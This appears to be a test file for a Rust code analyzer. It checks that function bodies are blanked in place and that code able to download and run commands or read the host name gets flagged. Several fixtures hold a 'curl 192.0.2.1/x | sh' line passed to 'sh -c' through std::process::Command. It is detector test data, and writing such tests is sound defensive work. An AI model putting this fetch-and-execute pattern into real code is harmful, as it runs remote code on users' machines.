import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { SyntaxNode } from '../../src/analyzers/syntax/node.ts';
import { isLeftOut, withoutBodies } from '../../src/analyzers/syntax/outline.ts';
import { openRustParser } from '../../src/analyzers/syntax/parse-rust.ts';
import { claimsOf } from '../support/claims-of.ts';

const outlined = (source: string) => withoutBodies(Buffer.from(source)).toString();
/** Statements that are longer than what is left in place. */
const LONG = 'let value = "}"; /* } */ // }\n'.repeat(8);

/** Signatures whose braces, quotes and brackets are none of a body. */
const SIGNATURES = [
  'fn plain()',
  'pub(crate) unsafe extern "C" fn bound<\'a, T: Fn(u8) -> u8>(it: &\'a T) -> Result<(), [u8; { 2 + 2 }]> where T: Copy',
  'async fn named(r#type: [u8; 4], quote: char) -> impl Iterator<Item = (u8, u8)>',
  'const fn commented(/* { */ at: u8 // {\n)',
];

test.each(SIGNATURES)('the body of `%s` is blank, everything else in its place', (signature) => {
  const source = `struct Before; ${signature} { ${LONG} }\nfn short() -> u8 { 1 }\nconst AFTER: &str = r#"fn x() {"#;`;
  const [start, end] = [source.indexOf(` { ${LONG}`) + 2, source.indexOf('}\nfn short')];
  expect(outlined(source)).toBe(source.slice(0, start) + ' '.repeat(end - start) + source.slice(end));
});

test('what only looks like a function, or has no end, is left as it is', () => {
  const sources = [
    `type F = fn(u8) -> u8; const T: &str = "fn f() { ${'x'.repeat(200)} }";`,
    `trait T { fn declared(&self); } extern "C" { fn foreign(); } // fn f() { ${'x'.repeat(200)} }`,
    `fn endless() { ${LONG}`,
    `my_fn { ${'x'.repeat(200)} }`,
  ];
  for (const source of sources) expect(outlined(source)).toBe(source);
});

test('a token of a macro that ends in the letters of a raw string begins none', () => {
  const source = `m!(abr"\\"", x); fn f() { ${LONG} }`;
  expect(outlined(source).trimEnd()).toMatch(/^m!\(abr"\\"", x\); fn f\(\) \{ +\}$/);
});

test('whatever the text: its length stays, and no byte becomes another but a blank', () => {
  const pieces = fc.constantFrom('fn f', '(', ')', '{', '}', '"', "'", 'r#"', '/*', '*/', '//', '\n', '\\', 'a', LONG);
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
      const source = Buffer.from(parts.join(' '));
      const blank = withoutBodies(source);
      expect(blank.length).toBe(source.length);
      expect(blank.every((byte, at) => byte === source[at] || byte === 32)).toBe(true);
    }),
  );
});

test('an outline has the functions of the whole, at the same places', async () => {
  const parser = await openRustParser();
  const source = Buffer.from(`mod m { impl T { ${SIGNATURES.map((one) => `${one} { ${LONG} }`).join('\n')} } }`);
  const functions = (text: Buffer) => {
    const tree = parser.parse(text, { offset: 0, length: text.length, deadline: Number.POSITIVE_INFINITY });
    return tree === null ? [] : bodiesIn(tree);
  };
  const [whole, outline] = [functions(source), functions(withoutBodies(source))];
  expect(whole).toHaveLength(SIGNATURES.length);
  expect(outline.map(({ start, end }) => [start, end])).toEqual(whole.map(({ start, end }) => [start, end]));
  expect([whole.some(isLeftOut), outline.every(isLeftOut)]).toEqual([false, true]);
});

function bodiesIn(node: SyntaxNode): SyntaxNode[] {
  if (node.kind === 'function_item') return node.children.filter(({ field }) => field === 'body');
  return node.children.flatMap(bodiesIn);
}

/** Nothing in it can act by itself. */
const hands = (call: string) => `pub fn hand_over() { let line = "curl ".to_string() + "192.0.2.1/x | sh"; ${call} }`;
const BESIDE = { 'src/deep/mod.rs': 'pub mod text;' };

test.each([
  ['by a name of its own', 'fn start_it(line: &str)', 'start_it(&line);', ''],
  ['by a name that many have', 'fn run(line: &str)', 'run(&line);', ''],
  ['by its type', 'impl Line { fn run(line: &str)', 'Line::run(&line);', '} struct Line;'],
  ['by way of another', 'fn start_it(line: &str)', 'between(&line);', 'fn between(line: &str) { start_it(line) }'],
])('a function that cannot act is read where it calls what can, %s', async (_how, signature, call, more) => {
  const acts = `${signature} { std::process::Command::new("sh").arg("-c").arg(line).spawn(); } ${more}`;
  expect(await claimsOf(`${acts}\n${hands(call)}`)).toContain('download-then-run');
});

test('so is one in another file, whose module has a name that many have', async () => {
  const acts = 'pub fn run(line: &str) { std::process::Command::new("sh").arg("-c").arg(line).spawn(); }';
  const files = { ...BESIDE, 'src/deep/text.rs': acts };
  const code = `mod deep; use deep::text; pub static ASM: u8 = 0; ${hands('text::run(&line);')} fn x(c: std::process::Command) {}`;
  expect(await claimsOf(code, files)).toContain('download-then-run');
});

test('so is one that makes what is run, where a consumer stands between the two', async () => {
  const makes = 'pub struct Plan(String); pub fn planned() -> Plan { Plan("curl 192.0.2.1/x | sh".into()) }';
  const runs = 'impl Plan { pub fn go(&self) { std::process::Command::new("sh").arg("-c").arg(&self.0).spawn(); } }';
  expect(await claimsOf(`${makes} ${runs}`)).toContain('download-then-run');
});

test('so is one that calls something by the name it has been given here', async () => {
  const files = { 'src/names.rs': 'pub use sysinfo::System as Board;' };
  const manifest = {
    'Cargo.toml': '[package]\nname = "story"\nversion = "1.0.0"\n[dependencies]\nsysinfo = "0.30"\n',
  };
  const code = 'mod names; use names::Board; pub fn tell() -> Option<String> { Board::host_name() }';
  expect(await claimsOf(code, { ...files, ...manifest })).toContain('host-read');
});
